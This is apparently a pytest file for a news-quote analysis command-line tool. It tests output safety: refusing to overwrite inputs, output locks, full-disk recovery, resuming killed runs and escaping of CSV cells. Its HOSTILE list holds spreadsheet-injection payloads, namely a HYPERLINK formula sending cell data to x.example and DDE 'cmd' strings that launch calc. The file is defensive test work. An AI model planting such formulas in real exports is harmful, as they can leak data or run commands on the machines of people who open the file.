"""Outputs that nothing can destroy: not another name of the input, not a
second run writing at once, not a full disk, not a spreadsheet.

The analysis itself is replaced by a stand-in (``prensa.pipeline.run``) that
turns each document into a record carrying its text, so these tests need no
model and run in milliseconds.
"""

from __future__ import annotations

import errno
import json
import os
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from prensa import cli, export, io

ARTICLE = "«No vamos a ceder», dijo ayer el ministro.\n"


def _run(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> tuple[int, str, str]:
    try:
        code = cli.main([str(a) for a in argv])
    except SystemExit as exit_:
        code = int(exit_.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def _records(items: Iterable[io.Document | io.Failure], **_: object) -> Iterator[dict[str, Any]]:
    for item in items:
        if isinstance(item, io.Failure):
            yield item.to_dict()
            continue
        quote = {"text": item.text, "start": -3, "end": len(item.text), "kind": "direct"}
        quote |= {"speaker": item.text.split("\n")[0], "confidence": -0.5}
        actor = {"id": "a", "name": item.id, "type": "PER", "aliases": [item.text]}
        yield {"id": item.id, "quotes": [quote], "actors": [actor], "profile": {"words": 1}}


@pytest.fixture(autouse=True)
def stand_in(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("prensa.pipeline.run", _records)


def _corpus(path: Path, *texts: str) -> Path:
    lines = (json.dumps({"id": f"n{i}", "text": t}) + "\n" for i, t in enumerate(texts))
    path.write_text("".join(lines), encoding="utf-8")
    return path


def _disk_full_after(count: int) -> Any:
    """A stand-in analysis that yields ``count`` records, then finds the disk full."""

    def run(items: Iterable[io.Document | io.Failure], **_: object) -> Iterator[dict[str, Any]]:
        for number, record in enumerate(_records(items)):
            if number == count:
                raise OSError(errno.ENOSPC, "No space left on device")
            yield record

    return run


# ---------------------------------------------------------------- the same file


def test_cli_outputs_hard_link_to_the_input_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    corpus = _corpus(tmp_path / "c.jsonl", ARTICLE, ARTICLE)
    before = corpus.read_bytes()
    os.link(corpus, tmp_path / "out.jsonl")
    code, _, err = _run(capsys, "analyze", corpus, "-o", tmp_path / "out.jsonl")
    assert code == cli.USAGE
    assert err == f"prensa: error: {corpus}: is also the output; writing would destroy it\n"
    assert corpus.read_bytes() == before


def test_cli_outputs_report_over_its_input_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    page = tmp_path / "nota.html"
    page.write_text(f"<html><body><p>{ARTICLE}</p></body></html>", encoding="utf-8")
    before = page.read_bytes()
    code, _, err = _run(capsys, "report", page)  # the default output is nota.html
    assert code == cli.USAGE
    assert "is also the input; writing would destroy it" in err
    assert page.read_bytes() == before


def test_cli_outputs_tables_inside_the_input_folder_are_not_read_back(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    (tmp_path / "nota.txt").write_text(ARTICLE, encoding="utf-8")
    for _ in range(2):
        code, _, _ = _run(capsys, "analyze", tmp_path, "--format", "csv", "-o", tmp_path / "t")
        assert code == cli.OK
    quotes = pd.read_csv(tmp_path / "t" / "quotes.csv")
    assert quotes["doc_id"].tolist() == ["nota"]


def test_cli_outputs_hard_link_of_the_output_in_the_input_folder_is_not_read(
    tmp_path: Path,
) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "nota.txt").write_text(ARTICLE, encoding="utf-8")
    out = tmp_path / "out.jsonl"
    out.write_text('{"id": "x"}\n', encoding="utf-8")
    os.link(out, tmp_path / "in" / "copia.txt")
    items = list(io.read_inputs([tmp_path / "in"], output=out))
    assert [i.id for i in items] == ["nota"]


# ---------------------------------------------------------------- one writer


@pytest.mark.parametrize(
    ("fmt", "name"), [("jsonl", "out.jsonl"), ("json", "out.json"), ("csv", "tablas")]
)
def test_cli_outputs_second_writer_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, fmt: str, name: str
) -> None:
    corpus = _corpus(tmp_path / "c.jsonl", ARTICLE)
    out = tmp_path / name
    argv = ("analyze", corpus, "--format", fmt, "-o", out)
    with io.output_lock(out, folder=fmt == "csv"):  # another run, writing now
        code, _, err = _run(capsys, *argv)
    assert code == cli.USAGE
    assert err.startswith(f"prensa: error: {out}: another prensa run is writing it")
    assert not out.exists() or (out.is_dir() and not any(out.glob("*.csv")))
    code, _, _ = _run(capsys, *argv)  # once it is done, the output is free again
    assert code == cli.OK
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_cli_outputs_lock_is_held_once(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    with io.output_lock(out), pytest.raises(io.OutputBusy), io.output_lock(out):
        pass
    with io.output_lock(out) as lock:  # released, and its file removed
        assert lock == tmp_path / ".out.jsonl.lock"
    assert list(tmp_path.iterdir()) == []
    out.write_text("")
    (tmp_path / "link.jsonl").symlink_to(out)  # another name for the same output
    with io.output_lock(out), pytest.raises(io.OutputBusy), io.output_lock(tmp_path / "link.jsonl"):
        pass


# ---------------------------------------------------------------- a full disk


@pytest.mark.parametrize(
    ("fmt", "resume"),
    [("jsonl", False), ("jsonl", True), ("json", False), ("csv", False), ("parquet", False)],
)
def test_cli_outputs_full_disk_keeps_the_previous_output(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    fmt: str,
    resume: bool,
) -> None:
    corpus = _corpus(tmp_path / "c.jsonl", ARTICLE, "Otra nota.", "Una tercera.")
    out = tmp_path / ("tablas" if fmt in ("csv", "parquet") else f"out.{fmt}")
    argv = ["analyze", corpus, "--format", fmt, "-o", out]
    assert _run(capsys, *argv)[0] == cli.OK
    if resume:  # a run killed in the middle of its second line
        whole = out.read_text(encoding="utf-8").splitlines(keepends=True)
        out.write_text(whole[0] + whole[1][:20], encoding="utf-8")
        argv.append("--resume")
    before = {p.name: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    monkeypatch.setattr("prensa.pipeline.run", _disk_full_after(0 if resume else 1))
    code, _, err = _run(capsys, *argv)
    assert code == cli.USAGE
    assert err.endswith(": cannot write: No space left on device\n")
    after = {p.name: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    assert after == before


def test_cli_outputs_full_disk_while_writing_the_tables(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    corpus = _corpus(tmp_path / "c.jsonl", ARTICLE)
    argv = ("analyze", corpus, "--format", "csv", "-o", tmp_path / "t")
    assert _run(capsys, *argv)[0] == cli.OK
    before = {p.name: p.read_bytes() for p in (tmp_path / "t").iterdir()}
    written = 0

    def full(frame: pd.DataFrame, path: Path) -> None:
        nonlocal written
        written += 1
        if written == 3:
            raise OSError(errno.ENOSPC, "No space left on device")
        path.write_text("new")

    monkeypatch.setattr(export, "write_csv", full)
    assert _run(capsys, *argv)[0] == cli.USAGE
    assert {p.name: p.read_bytes() for p in (tmp_path / "t").iterdir()} == before


def test_cli_outputs_resume_continues_a_killed_run(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    corpus = _corpus(tmp_path / "c.jsonl", ARTICLE, "Otra nota.", "Una tercera.")
    out = tmp_path / "out.jsonl"
    out.write_text('{"id": "old"}\n', encoding="utf-8")
    # killed by SIGKILL while writing its second line: the partial file stays
    io.partial_path(out).write_text('{"id": "n0"}\n{"id": "n1", "quo', encoding="utf-8")
    code, _, err = _run(capsys, "analyze", corpus, "-o", out, "--resume")
    assert code == cli.OK
    assert "resuming the run that was stopped: 1 documents written" in err
    assert [json.loads(line)["id"] for line in out.read_text().splitlines()] == ["n0", "n1", "n2"]
    assert not io.partial_path(out).exists()


# ---------------------------------------------------------------- CSV


HOSTILE = [
    '=HYPERLINK("http://x.example/?q="&A1,"abrir")',
    "+34 600 000 000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tcon tabulador",
    "\rretorno solo",
    "línea\rcon retorno solo en medio",
    "línea\ncon salto\r\ny CRLF",
    'comillas "dobles", y coma',
    " espacio delante",
]


@pytest.mark.parametrize("raw", [False, True])
def test_cli_outputs_csv_cells_cannot_run_and_read_back_whole(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, raw: bool
) -> None:
    corpus = tmp_path / "c.jsonl"
    corpus.write_text(
        "".join(json.dumps({"id": t, "text": t}) + "\n" for t in HOSTILE), encoding="utf-8"
    )
    argv = ["analyze", corpus, "--format", "csv", "-o", tmp_path / "t", "--quiet"]
    code, _, _ = _run(capsys, *argv, *(["--csv-raw"] if raw else []))
    assert code == cli.OK
    quotes = pd.read_csv(tmp_path / "t" / "quotes.csv", keep_default_na=False)
    assert len(quotes) == len(HOSTILE)
    assert quotes["start"].tolist() == [-3] * len(HOSTILE)  # numbers stay numbers
    assert quotes["confidence"].tolist() == [-0.5] * len(HOSTILE)
    expected = HOSTILE if raw else [f"'{t}" if t[0] in "=+-@\t\r" else t for t in HOSTILE]
    assert quotes["doc_id"].tolist() == expected
    assert quotes["text"].tolist() == expected
    texts = [t for t in HOSTILE if t.lstrip() == t and t[0] not in "=+-@\t\r"]
    for table in ("quotes", "actors"):
        frame = pd.read_csv(tmp_path / "t" / f"{table}.csv", dtype=str, keep_default_na=False)
        cells = [c for column in frame.columns for c in frame[column]]
        assert any(c in texts for c in cells)
        if not raw:
            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
            assert not [c for c in cells if c[:1] == "-" and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_cli_outputs_export_neutralises_too(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    out = tmp_path / "out.jsonl"
    out.write_text(json.dumps({"id": "=1+1", "quotes": [{"text": "@x", "start": -1}]}) + "\n")
    assert _run(capsys, "export", out, "-o", tmp_path / "t")[0] == cli.OK
    quotes = pd.read_csv(tmp_path / "t" / "quotes.csv")
    assert quotes[["doc_id", "text", "start"]].values.tolist() == [["'=1+1", "'@x", -1]]


def test_cli_outputs_stale_errors_table_is_removed(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    corpus = tmp_path / "c.jsonl"
    corpus.write_text('{"id": "roto"}\n' + json.dumps({"id": "a", "text": ARTICLE}) + "\n")
    argv = ("analyze", corpus, "--format", "csv", "-o", tmp_path / "t", "--quiet")
    assert _run(capsys, *argv)[0] == cli.FAILED
    assert (tmp_path / "t" / "errors.csv").exists()
    corpus.write_text(json.dumps({"id": "a", "text": ARTICLE}) + "\n")
    assert _run(capsys, *argv)[0] == cli.OK
    assert not (tmp_path / "t" / "errors.csv").exists()
